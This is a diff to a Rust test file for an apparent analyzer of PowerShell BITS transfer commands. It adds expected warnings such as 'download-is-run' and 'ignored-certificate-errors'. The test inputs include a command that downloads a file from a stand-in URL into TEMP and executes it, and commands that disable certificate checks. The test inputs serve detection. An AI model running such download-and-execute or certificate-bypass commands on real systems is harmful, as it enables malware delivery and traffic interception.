@@ -1448,7 +1448,7 @@ fn a_shell_gets_what_the_one_around_it_puts_in() {
         (
             "powershell -Command \"Start-BitsTransfer http://a/b $env:TEMP\\b; & $env:TEMP\\b\"",
             &["http://a/b > %TEMP%\\b; one_shot"],
-            &[],
+            &["download-is-run"],
         ),
         (
             "powershell -NoProfile -Command \"Start-BitsTransfer -Source $u -Destination $d\"",
@@ -1565,6 +1565,64 @@ fn a_path_is_joined_where_its_seam_is_known() {
             "Start-BitsTransfer http://a/b (Join-Path C:\\t a b)",
             &["http://a/b > {(Join-Path C:\\t a b)}; one_shot"],
             &[],
+        ),
+    ]);
+}
+
+#[test]
+fn what_a_cmdlet_takes_is_said_as_it_takes_it() {
+    check(&[
+        // Of a job whose type is not known the destination shows it.
+        (
+            "$j = Get-BitsTransfer -Name up; Add-BitsFile -BitsJob $j -Source C:\\y -Destination http://a/y",
+            &["name=up; http://a/y > C:\\y"],
+            &[],
+        ),
+        (
+            "$j = Get-BitsTransfer -Name down; Add-BitsFile $j \\\\s\\s\\*.txt C:\\t",
+            &["name=down; \\\\s\\s\\*.txt > C:\\t"],
+            &["wildcard-in-file-name"],
+        ),
+        (
+            "Start-BitsTransfer http://a/x C:\\x -WhatIf",
+            &["http://a/x > C:\\x; one_shot"],
+            &["ask-for-new-job"],
+        ),
+        (
+            "Get-BitsTransfer x | Remove-BitsTransfer -WhatIf",
+            &["name=x; cancel"],
+            &[],
+        ),
+        // The job of the call before is gone: another one is meant.
+        (
+            "param($j)\nStart-BitsTransfer http://a/x C:\\x\nSuspend-BitsTransfer $j",
+            &["http://a/x > C:\\x; one_shot", "guid={$j.JobId}; suspend"],
+            &["unreadable-value", "job-not-known"],
+        ),
+        (
+            "Set-BitsTransfer (Get-BitsTransfer x) -p Normal",
+            &["name=x; priority=normal"],
+            &[],
+        ),
+        (
+            "Set-BitsTransfer (Get-BitsTransfer x) -SecurityFlags IgnoreUnknownCA,IgnoreCertCNInvalid",
+            &["name=x; security_flags=flags=ignore_cert_cn_invalidignore_unknown_ca"],
+            &["ignored-certificate-errors"],
+        ),
+        (
+            "Set-BitsTransfer (Get-BitsTransfer x) -SecurityFlags 0,0,1",
+            &["name=x; security_flags=flags=enable_crl_check"],
+            &["bits-as-number"],
+        ),
+        (
+            "Set-BitsTransfer (Get-BitsTransfer x) -SecurityFlags 0x302",
+            &["name=x; security_flags=flags=770"],
+            &["unreadable-value", "ignored-certificate-errors"],
+        ),
+        (
+            "Set-BitsTransfer (Get-BitsTransfer x) -RetryInterval 30 -Dynamic:$true",
+            &["name=x; minimum_retry_delay=30; dynamic_content=true"],
+            &["short-retry-delay", "setting-after-first-resume"],
         ),
     ]);
 }
